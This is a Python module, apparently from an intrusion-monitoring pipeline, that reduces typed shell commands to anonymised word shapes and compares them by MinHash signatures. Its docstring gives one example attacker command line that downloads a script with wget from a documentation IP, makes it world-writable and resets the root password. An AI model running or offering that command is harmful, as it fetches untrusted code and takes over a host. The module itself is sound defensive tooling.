"""What may be known of a command line that somebody typed: its shape, never its text. No I/O here.

A command line may hold names, passwords, and what an attacker found. So it is reduced to words of a
closed vocabulary (`pipeline.command_words`), and to placeholders for all that is in none:

    cd /tmp; wget http://198.51.100.7/a.sh -O x; chmod 777 x; echo root:secret | chpasswd
    cd /tmp ; wget URL -O WORD ; chmod 777 WORD ; echo WORD | chpasswd

A word stands for itself only where it says what is done: a tool where a shell looks for a command,
an option, a path that is the same on every machine. Anywhere else it is `WORD`, though it be in
the vocabulary. To reduce what was reduced changes nothing.

The signature of a shape is a MinHash of its shingles: near-equal shapes have signatures that are
equal in most digits. Source: A. Broder, "On the resemblance and containment of documents" (1997);
P. Li, A. C. König, "b-Bit minwise hashing" (2010).
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from functools import lru_cache
from hashlib import blake2b
from struct import Struct as Packed
from typing import Final

from pipeline.command_words import (
    ADDRESS,
    CARRIERS,
    COMMANDS,
    KEEPERS,
    MODES,
    NAMERS,
    NUMBER,
    OPTIONS,
    PATH,
    PLACEHOLDERS,
    PLACES,
    REDIRECTIONS,
    SETTING,
    SHELLS,
    TOOL_FOLDERS,
    URL,
    WORD,
)

MOST_WORDS: Final = 256
"""Words of a shape; of a longer one, the first so many."""
_MOST_TEXT: Final = 1 << 16
_MOST_TOKENS: Final = 2_048
_LONGEST: Final = 2_048
"""Characters of a word that is looked at; longer ones are data."""
_DEPTH: Final = 4
"""Command lines within command lines: `sh -c "sh -c '…'"`."""

SHINGLE: Final = 3
LEAST_SHINGLES: Final = 8
"""Shapes with fewer distinct shingles are too short to tell anything."""
COMPONENTS: Final = 32
BITS: Final = 4
"""Bits of a component: a hexadecimal digit."""

Shape = tuple[str, ...]

# Whatever a text holds, one of these matches; none looks back.
_TOKEN = re.compile(
    r"""
    (?P<space> [^\S\n]++ )
    | (?P<operator> \n | ;++ | && | \|\|?+ | &>>?+ | [12]?+>&[12-] | [12]?+>>?+ | <<?+<?+ | &
      | \$\( | [()`] )
    | (?P<word> (?: [^\s;&|()`<>'"\\$]++ | \\[\s\S]?+ | '[^']*+'?+ | "(?:[^"\\]++|\\[\s\S]?+)*+"?+
      | \$(?!\() )++ )
    """,
    re.VERBOSE,
)
_QUOTES = re.compile(r"""'([^']*+)'?+|"((?:[^"\\]++|\\[\s\S]?+)*+)"?+|\\([\s\S]?+)""")
_WHOLLY_QUOTED = re.compile(r"""'([^']*+)'?+|"((?:[^"\\]++|\\[\s\S]?+)*+)"?+""").fullmatch
_ESCAPED = re.compile(r'\\(["\\$`])')
_SETTING = re.compile(r"[A-Za-z_][A-Za-z0-9_]*+=").match
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*+://").match
_NUMBER = re.compile(r"[+-]?+(?:0[xX][0-9A-Fa-f]++|[0-9]++)", re.ASCII).fullmatch
_ADDRESS = re.compile(
    r"(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}(?::[0-9]{1,5})?+"
    r"|\[?+(?=[^:]*+:[^:]*+:)[0-9A-Fa-f]{0,4}(?::[0-9A-Fa-f]{0,4}){2,7}\]?+)(/.*+)?+",
    re.ASCII | re.DOTALL,
).fullmatch


def shape(text: str) -> Shape:
    """The words of the vocabulary that a command line is reduced to."""
    reader = _Reader()
    reader.read(text[:_MOST_TEXT], 0)
    return tuple(reader.words)


def reduced(text: str) -> str:
    """The shape as one line; "" if there is none."""
    return " ".join(shape(text))


class _Reader:
    """Reads words in a shell's way, as far as it takes to know which are commands.

    What comes next depends on what was put out alone, and not on what it stood for in the text: so
    the same comes of what was put out.
    """

    def __init__(self) -> None:
        self.words: list[str] = []
        self._tokens = 0
        self._at_command = True
        self._to_file = False
        self._tool = ""
        self._is_code = False
        """May what comes now, if it is quoted, be a command line?"""
        self._open = False
        """Is a backtick open?"""
        self._run = False
        """Is the last word one of a run that would be the same?"""

    def read(self, text: str, depth: int) -> None:
        for match in _TOKEN.finditer(text):
            self._tokens += 1
            if len(self.words) >= MOST_WORDS or self._tokens > _MOST_TOKENS:
                return
            token = match.group()
            if match.lastgroup == "operator":
                self._operator(token)
            elif match.lastgroup == "word":
                if self._is_code and depth < _DEPTH and (code := _WHOLLY_QUOTED(token)):
                    self._is_code = False
                    inner = code[1] if code[1] is not None else _ESCAPED.sub(r"\1", code[2])
                    self.read(inner, depth + 1)
                else:
                    self._word(_unquoted(token) if len(token) <= _LONGEST else None)

    def _operator(self, token: str) -> None:
        said = ";" if token[0] in "\n;" else token
        if self.words and self.words[-1] == ";" == said:
            return
        self.words.append(said)
        self._run = self._is_code = False
        if said in REDIRECTIONS:
            self._to_file = True
        elif ">&" not in said:
            self._to_file = False
            if said == "`":
                self._open = not self._open
            self._at_command = said != ")" and (said != "`" or self._open)
            self._tool = ""

    def _word(self, text: str | None) -> None:
        """One word, unquoted; None of one that is too long to be looked at."""
        if self._to_file:
            self._to_file = False
            self.words.append(_file(text))
            self._run = False
            return
        said = WORD if text is None else self._command(text) if self._at_command else (
            self._operand(text)
        )  # fmt: skip
        self._is_code = False
        if self._at_command:
            self._tool = said
            # What these three stand before is still to come.
            self._at_command = said in CARRIERS or said in {SETTING, NUMBER} or said in OPTIONS
            self._is_code = said == "eval"
        elif said == "-c" and self._tool in SHELLS:
            self._at_command = self._is_code = True
        again = self._run and self.words and self.words[-1] == said
        if not again:
            self.words.append(said)
        self._run = said in PLACEHOLDERS

    def _command(self, text: str) -> str:
        folder, _, name = text.rpartition("/")
        if folder in TOOL_FOLDERS and name in COMMANDS:
            return name
        known = text in COMMANDS or text in OPTIONS or text in PLACEHOLDERS
        return text if known else _kind(text)

    def _operand(self, text: str) -> str:
        if text in OPTIONS:
            return text
        if self._tool in KEEPERS:
            return WORD
        if text in PLACEHOLDERS or text in PLACES:
            return text
        if (self._tool == "chmod" and text in MODES) or (self._tool in NAMERS and text in COMMANDS):
            return text
        return _kind(text)


def _unquoted(token: str) -> str:
    return _QUOTES.sub(_inside, token) if "'" in token or '"' in token or "\\" in token else token


def _inside(match: re.Match[str]) -> str:
    single, double, escaped = match.groups()
    return single if single is not None else double if double is not None else escaped


def _file(text: str | None) -> str:
    if text is None:
        return WORD
    return text if text in PLACES or text in PLACEHOLDERS else _kind(text)


def _kind(text: str) -> str:
    """The placeholder for a word."""
    if _SETTING(text):
        return SETTING
    if _SCHEME(text):
        return URL
    if address := _ADDRESS(text):
        return URL if address[1] else ADDRESS
    if _NUMBER(text):
        return NUMBER
    if "/" in text or text[:1] == "~":
        return PATH
    return WORD


def shingles(of: Sequence[str]) -> set[tuple[str, ...]]:
    """What two shapes are compared by: each run of so many words."""
    return {tuple(of[n : n + SHINGLE]) for n in range(len(of) - SHINGLE + 1)}


_HASHES = Packed(f">{COMPONENTS}H")


@lru_cache(1 << 12)
def _hashes(shingle: tuple[str, ...]) -> tuple[int, ...]:
    """For each component another hash of a shingle, of 16 bits: there are but few shingles."""
    text = " ".join(shingle).encode()
    return _HASHES.unpack(blake2b(text, digest_size=_HASHES.size, person=b"command").digest())


def signature(of: Sequence[str]) -> str | None:
    """A shape's MinHash, a hexadecimal digit for each component; None if it is too short.

    The same on every machine and in every version, as long as the vocabulary is.
    """
    found = shingles(of)
    if len(found) < LEAST_SHINGLES:
        return None
    lowest = map(min, zip(*map(_hashes, found), strict=True))
    return "".join([f"{one & ((1 << BITS) - 1):x}" for one in lowest])


@lru_cache(1 << 12)
def _remembered(text: str) -> str | None:
    return signature(shape(text))


def signature_of(text: str) -> str | None:
    """The signature of a command line, reduced or not; None if it tells nothing."""
    return _remembered(text) if len(text) <= _LONGEST else signature(shape(text))


def similarity(one: str, other: str) -> float:
    """About how many of all shingles of two signatures' shapes are in both, 0 … 1.

    Of components that have nothing to do with each other, one in sixteen is equal.
    """
    equal = sum(map(str.__eq__, one, other)) / COMPONENTS
    return max(equal - 2.0**-BITS, 0.0) / (1.0 - 2.0**-BITS)


def is_signature(text: str) -> bool:
    """What is on `sightings` need not be what we sent."""
    return len(text) == COMPONENTS and not text.strip("0123456789abcdef")


def bands(of: str, digits: int) -> Iterator[tuple[int, str]]:
    """The parts of a signature, each with its place: near-equal ones have one in common."""
    for place in range(0, COMPONENTS, digits):
        yield place, of[place : place + digits]
